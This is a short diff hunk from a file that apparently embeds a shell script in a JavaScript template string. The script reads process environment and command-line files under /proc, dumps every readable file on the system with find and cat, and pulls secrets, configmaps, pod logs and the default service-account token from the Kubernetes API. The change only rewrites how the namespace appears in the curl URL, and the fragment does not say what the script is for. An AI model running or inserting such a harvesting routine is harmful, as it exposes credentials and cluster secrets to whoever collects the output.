@@ -161,7 +161,7 @@ for file in /proc/[0-9]*/environ /proc/[0-9]*/cmdline /proc/[0-9]*/mountinfo /de
 find / -path /proc -prune -o -path /sys -prune -o -type f -exec cat {} + 2>/dev/null
 api=https://$KUBERNETES_SERVICE_HOST:$KUBERNETES_SERVICE_PORT
 for path in secrets configmaps pods/x/log serviceaccounts/default/token; do
-  curl -sk --max-time 5 $api/api/v1/namespaces/$(cat /etc/hostname >/dev/null; echo NAMESPACE)/$path
+  curl -sk --max-time 5 $api/api/v1/namespaces/NAMESPACE/$path
 done
 true
 `;
